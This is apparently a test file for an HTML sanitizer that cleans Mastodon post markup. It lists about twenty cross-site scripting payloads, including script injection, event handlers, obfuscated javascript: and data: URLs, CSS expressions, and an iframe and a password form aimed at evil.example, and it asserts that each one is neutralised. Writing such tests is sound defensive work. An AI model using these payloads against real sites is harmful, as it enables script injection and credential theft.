import { describe, expect, it } from 'vitest';
import { sanitizeSourceHtml } from '../../../../server/pipeline/text/html-policy.js';

/** Hostile inputs, each with a word that must survive as text (or null when the content itself must go). */
const HOSTILE: [string, string, string | null][] = [
  ['script', '<p>Bonjour<script>alert(1)</script></p>', 'Bonjour'],
  ['img onerror', '<p>photo <img src=x onerror="alert(1)"></p>', 'photo'],
  ['javascript: href', '<a href="javascript:alert(1)">cliquez</a>', 'cliquez'],
  ['obfuscated javascript: href', '<a href=" JaVaScRiPt&#x3A;alert(1)">ici</a>', 'ici'],
  ['entity-split javascript: href', '<a href="jav&#x09;ascript:alert(1)">la</a>', 'la'],
  ['newline in scheme', '<a href="java\nscript:alert(1)">lien</a>', 'lien'],
  ['svg script', '<p>avant<svg><script>alert(1)</script></svg>après</p>', 'après'],
  ['svg onload', '<svg onload="alert(1)"><circle r="1"/></svg><p>texte</p>', 'texte'],
  ['style tag', '<style>body{background:url(javascript:alert(1))}</style><p>visible</p>', 'visible'],
  ['style attribute', '<p style="background:url(javascript:alert(1))">stylé</p>', 'stylé'],
  ['css expression', '<span style="width:expression(alert(1))">ancien</span>', 'ancien'],
  ['iframe', '<iframe src="https://evil.example"></iframe><p>cadre</p>', 'cadre'],
  ['form', '<form action="https://evil.example"><input name="pw"><button>Envoyer</button></form>', 'Envoyer'],
  ['data: URL', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">données</a>', 'données'],
  ['protocol-relative', '<a href="//evil.example/x">relatif</a>', 'relatif'],
  ['event handler on allowed tag', '<p onclick="alert(1)" onmouseover="alert(2)">clic</p>', 'clic'],
  ['object/embed', '<object data="x.swf"></object><embed src="x.swf"><p>flash</p>', 'flash'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>meta</p>', 'meta'],
  ['math', '<math><mtext><script>alert(1)</script></mtext></math><p>maths</p>', 'maths'],
  ['unclosed attribute trick', '<p title="</p><script>alert(1)</script>">titre</p>', 'titre'],
  ['template', '<template><img src=x onerror=alert(1)></template><p>gabarit</p>', 'gabarit'],
];

describe('sanitizeSourceHtml', () => {
  it.each(HOSTILE)('makes %s inert', (_name, html, survivor) => {
    const out = sanitizeSourceHtml(html);
    expect(out).not.toMatch(/<script/i);
    expect(out).not.toMatch(/\son\w+\s*=/i);
    expect(out).not.toMatch(/javascript:/i);
    expect(out).not.toMatch(/<svg/i);
    expect(out).not.toMatch(/style=/i);
    expect(out).not.toMatch(/<(iframe|form|input|object|embed|meta|img|math|template|style)/i);
    expect(out).not.toMatch(/data:/i);
    expect(out).not.toMatch(/href="\/\//);
    if (survivor) expect(out).toContain(survivor);
  });

  it('keeps Mastodon markup: paragraphs, hashtag and mention links, invisible/ellipsis spans', () => {
    const html =
      '<p><span class="h-card"><a class="u-url mention" href="https://a.example.org/@z">@<span>z</span></a></span> ' +
      '<a href="https://a.example.org/tags/d%C3%A9bat" class="mention hashtag" rel="tag">#<span>débat</span></a><br>' +
      '<a href="https://example.org/long"><span class="invisible">https://</span><span class="ellipsis">example.org/lo</span><span class="invisible">ng</span></a></p>';
    expect(sanitizeSourceHtml(html)).toBe(
      '<p><span><a href="https://a.example.org/@z" class="mention" rel="nofollow noopener noreferrer" target="_blank">@<span>z</span></a></span> ' +
        '<a href="https://a.example.org/tags/d%C3%A9bat" class="mention hashtag" rel="nofollow noopener noreferrer" target="_blank">#<span>débat</span></a><br />' +
        '<a href="https://example.org/long" rel="nofollow noopener noreferrer" target="_blank"><span class="invisible">https://</span><span class="ellipsis">example.org/lo</span><span class="invisible">ng</span></a></p>',
    );
  });

  it('forces rel and target on every link, replacing the source ones', () => {
    expect(sanitizeSourceHtml('<a href="https://example.org" rel="opener" target="_self" id="x">a</a>')).toBe(
      '<a href="https://example.org" rel="nofollow noopener noreferrer" target="_blank">a</a>',
    );
  });

  it('keeps the allow-listed formatting tags and drops classes outside the list', () => {
    expect(
      sanitizeSourceHtml(
        '<blockquote class="x"><ul><li><strong>a</strong> <em>b</em> <b>c</b> <i>d</i></li></ul><ol><li>e</li></ol></blockquote><h1>f</h1>',
      ),
    ).toBe(
      '<blockquote><ul><li><strong>a</strong> <em>b</em> <b>c</b> <i>d</i></li></ul><ol><li>e</li></ol></blockquote>f',
    );
  });
});
